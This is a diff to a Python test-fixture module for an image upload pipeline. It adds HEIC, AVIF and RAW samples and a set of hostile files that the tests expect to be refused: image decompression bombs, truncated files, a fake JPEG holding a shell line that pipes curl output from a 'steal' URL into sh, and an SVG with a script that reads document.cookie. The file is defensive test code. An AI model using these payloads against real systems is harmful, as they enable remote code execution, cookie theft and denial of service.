@@ -2,7 +2,12 @@
 
 Each ``make_*`` function writes one file into ``directory`` and returns its path. EXIF blocks are
 assembled byte by byte here, so tests control exactly what is in them, including the malformed
-values real cameras write (0/0 rationals, orientation 0, offsets pointing nowhere).
+values real cameras write (0/0 rationals, orientation 0, offsets pointing nowhere). Camera RAW
+files are assembled the same way (fixtures_raw.py), HEIC and AVIF are encoded by pillow-heif and
+libvips.
+
+``make_all`` writes the good samples (every one must publish), ``make_hostile`` the files that
+must end refused or failed, and ``make_everything`` both, under the keys older tests use.
 """
 
 from __future__ import annotations
@@ -234,13 +239,6 @@ def make_tiff(directory: Path) -> Path:
     return path
 
 
-def make_fake_dng(directory: Path) -> Path:
-    """A TIFF whose first directory carries DNGVersion: a camera RAW, not a plain TIFF."""
-    path = directory / "raw.tiff"
-    Image.new("RGB", (64, 48)).save(path, tiffinfo={0xC612: b"\x01\x04\x00\x00"})
-    return path
-
-
 def _png(width: int, height: int, colour_type: int, depth: int, rows: bytes) -> bytes:
     def chunk(kind: bytes, data: bytes) -> bytes:
         return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
@@ -286,27 +284,202 @@ def make_empty(directory: Path) -> Path:
     return path
 
 
-ALL = {
-    "camera": make_camera_jpeg,
-    "broken_exif": make_broken_exif_jpeg,
-    "garbage_exif": make_garbage_exif_jpeg,
-    "plain": make_plain_jpeg,
-    "truncated": make_truncated_jpeg,
-    "cmyk": make_cmyk_jpeg,
-    "flat_png": make_flat_png,
-    "alpha_png": make_alpha_png,
-    "opaque_rgba_png": make_opaque_rgba_png,
-    "gif": make_animated_gif,
-    "webp": make_webp,
-    "tiff": make_tiff,
-    "dng": make_fake_dng,
-    "png16": make_png16,
-    "bomb": make_png_bomb,
-    "text": make_text_as_jpeg,
-    "empty": make_empty,
-}
+
+
+# HEIF, AVIF, animated WebP ------------------------------------------------------------------------
+IPHONE_MAKE = "Apple"
+IPHONE_MODEL = "iPhone 15 Pro"
+
+
+def iphone_exif() -> bytes:
+    """What an iPhone writes: orientation 6 (the pixels are stored landscape and turned by the
+    HEIF ``irot`` box too), camera fields and a GPS position."""
+    return exif_block(
+        {0x010F: ascii_(IPHONE_MAKE), 0x0110: ascii_(IPHONE_MODEL), 0x0112: short(6)},
+        exif={0x829D: rational((178, 100)), 0x8827: short(64), 0x9003: ascii_("2024:08:02 18:45:10")},
+        gps={
+            0x0001: ascii_("N"),
+            0x0002: rational((59, 1), (20, 1), (1200012, 100000)),
+            0x0003: ascii_("E"),
+            0x0004: rational((18, 1), (0, 1), (5820012, 100000)),
+        },
+    )[6:]  # pillow-heif wants the TIFF structure without the "Exif\0\0" prefix
+
+
+def make_iphone_heic(directory: Path) -> Path:
+    """640x480 stored (red block top-left), EXIF orientation 6 and GPS: shows as 480x640."""
+    import pillow_heif
+
+    image = photo(640, 480, seed=6)
+    image.paste((255, 0, 0), (0, 0, 160, 120))
+    heif = pillow_heif.from_pillow(image)
+    path = directory / "IMG_0001.HEIC"
+    heif.save(path, quality=80, exif=iphone_exif())
+    return path
+
+
+def make_avif(directory: Path) -> Path:
+    """An 800x600 AVIF (AV1, via libvips) with camera EXIF and GPS in it."""
+    import pyvips
+
+    image = photo(800, 600, seed=7)
+    image.paste((255, 0, 0), (0, 0, 200, 150))
+    vips = pyvips.Image.new_from_memory(image.tobytes(), 800, 600, 3, "uchar")
+    vips.set_type(pyvips.GValue.blob_type, "exif-data", camera_exif(orientation=1))
+    path = directory / "picture.avif"
+    vips.heifsave(str(path), compression="av1", Q=50, effort=0)
+    return path
+
+
+def make_animated_webp(directory: Path) -> Path:
+    frames = [Image.new("RGB", (240, 180), colour) for colour in ((0, 0, 255), (255, 255, 0), (255, 0, 0))]
+    path = directory / "animated.webp"
+    frames[0].save(path, save_all=True, append_images=frames[1:], duration=120, loop=0, quality=80)
+    return path
+
+
+# Hostile files -------------------------------------------------------------------------------------
+def _gif_screen(width: int, height: int, frames: int, frame_size: tuple[int, int] = (1, 1)) -> bytes:
+    """A GIF whose logical screen is ``width`` x ``height``, holding ``frames`` frames of
+    ``frame_size`` that carry one pixel of data each."""
+    out = bytearray(b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\x00\x00")
+    out += b"\x00\x00\x00\xff\xff\xff"  # a two-colour global palette
+    out += b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
+    for _ in range(frames):
+        out += b"\x21\xf9\x04\x00\x0a\x00\x00\x00"  # graphic control: 100 ms
+        out += b"\x2c" + struct.pack("<HHHH", 0, 0, *frame_size) + b"\x00"
+        out += b"\x02\x02\x44\x01\x00"  # LZW: one pixel of colour 0
+    return bytes(out + b"\x3b")
+
+
+def make_gif_bomb(directory: Path) -> Path:
+    path = directory / "bomb.gif"
+    path.write_bytes(_gif_screen(60000, 60000, 1, frame_size=(60000, 60000)))
+    return path
+
+
+def make_animated_bomb(directory: Path) -> Path:
+    """900 frames on a 2000x2000 screen: 3.6 gigapixels to decode, in 20 KB."""
+    path = directory / "frames-bomb.gif"
+    path.write_bytes(_gif_screen(2000, 2000, 900))
+    return path
+
+
+def make_webp_bomb(directory: Path) -> Path:
+    """A lossless WebP header declaring 16383x16383 (268 megapixels), the format's largest."""
+    side = 16383
+    bits = (side - 1) | ((side - 1) << 14)
+    vp8l = b"\x2f" + struct.pack("<I", bits) + b"\x00" * 32
+    chunk = b"VP8L" + struct.pack("<I", len(vp8l)) + vp8l
+    path = directory / "bomb.webp"
+    path.write_bytes(b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk)
+    return path
+
+
+def make_tiff_bomb(directory: Path) -> Path:
+    """A TIFF directory declaring 60000x60000 8-bit grey, with one tiny strip."""
+    entries = {0x0100: (LONG, 1, struct.pack("<I", 60000)), 0x0101: (LONG, 1, struct.pack("<I", 60000)),
+               0x0102: short(8), 0x0103: short(1), 0x0106: short(1), 0x0111: (LONG, 1, struct.pack("<I", 8)),
+               0x0116: (LONG, 1, struct.pack("<I", 60000)), 0x0117: (LONG, 1, struct.pack("<I", 16))}
+    body = b"\x00" * 16
+    path = directory / "bomb.tiff"
+    path.write_bytes(b"II*\x00" + struct.pack("<I", 8 + len(body)) + body + _ifd(entries, 8 + len(body)))
+    return path
+
+
+def _truncated(source: Path, name: str) -> Path:
+    path = source.parent / name
+    data = source.read_bytes()
+    path.write_bytes(data[: len(data) // 2])
+    source.unlink()
+    return path
+
+
+def make_truncated_png(directory: Path) -> Path:
+    path = directory / "whole.png"
+    photo(600, 400, seed=8).save(path)
+    return _truncated(path, "truncated.png")
+
+
+def make_truncated_heic(directory: Path) -> Path:
+    sub = directory / "heic-whole"
+    sub.mkdir(exist_ok=True)
+    return _truncated(make_iphone_heic(sub), "../truncated.heic").resolve()
+
+
+def make_shell_script_as_jpeg(directory: Path) -> Path:
+    path = directory / "sunset.jpg"
+    path.write_text("#!/bin/sh\ncurl -s http://127.0.0.1/steal | sh\n")
+    return path
+
+
+def make_svg_with_script(directory: Path) -> Path:
+    path = directory / "logo.svg"
+    path.write_text('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
+                    '<script>alert(document.cookie)</script><rect width="10" height="10"/></svg>')
+    return path
+
+
+def _samples() -> dict[str, object]:
+    from tests import fixtures_raw as R
+
+    return {
+        "camera": make_camera_jpeg,
+        "broken_exif": make_broken_exif_jpeg,
+        "garbage_exif": make_garbage_exif_jpeg,
+        "plain": make_plain_jpeg,
+        "cmyk": make_cmyk_jpeg,
+        "flat_png": make_flat_png,
+        "alpha_png": make_alpha_png,
+        "opaque_rgba_png": make_opaque_rgba_png,
+        "gif": make_animated_gif,
+        "animated_webp": make_animated_webp,
+        "webp": make_webp,
+        "tiff": make_tiff,
+        "png16": make_png16,
+        "heic": make_iphone_heic,
+        "avif": make_avif,
+        "dng": R.make_dng,
+        "cr2": R.make_cr2,
+        "nef": R.make_nef,
+        "arw": R.make_arw,
+    }
+
+
+def _hostile() -> dict[str, object]:
+    from tests import fixtures_raw as R
+
+    return {
+        "bomb": make_png_bomb,
+        "gif_bomb": make_gif_bomb,
+        "webp_bomb": make_webp_bomb,
+        "tiff_bomb": make_tiff_bomb,
+        "animated_bomb": make_animated_bomb,
+        "truncated": make_truncated_jpeg,
+        "truncated_png": make_truncated_png,
+        "truncated_heic": make_truncated_heic,
+        "truncated_dng": R.make_truncated_dng,
+        "raw_without_preview": R.make_raw_without_preview,
+        "unknown_raw": R.make_pentax_like,
+        "text": make_text_as_jpeg,
+        "script": make_shell_script_as_jpeg,
+        "svg": make_svg_with_script,
+        "empty": make_empty,
+    }
 
 
 def make_all(directory: Path) -> dict[str, Path]:
+    """Good samples: each one must publish with a thumbnail."""
     directory.mkdir(parents=True, exist_ok=True)
-    return {key: make(directory) for key, make in ALL.items()}
+    return {key: make(directory) for key, make in _samples().items()}  # type: ignore[operator]
+
+
+def make_hostile(directory: Path) -> dict[str, Path]:
+    """Files that must end refused at upload or failed with a reason."""
+    directory.mkdir(parents=True, exist_ok=True)
+    return {key: make(directory) for key, make in _hostile().items()}  # type: ignore[operator]
+
+
+def make_everything(directory: Path) -> dict[str, Path]:
+    """Samples and hostile files together, in two sub-directories (their names may repeat)."""
+    return {**make_all(directory / "good"), **make_hostile(directory / "hostile")}
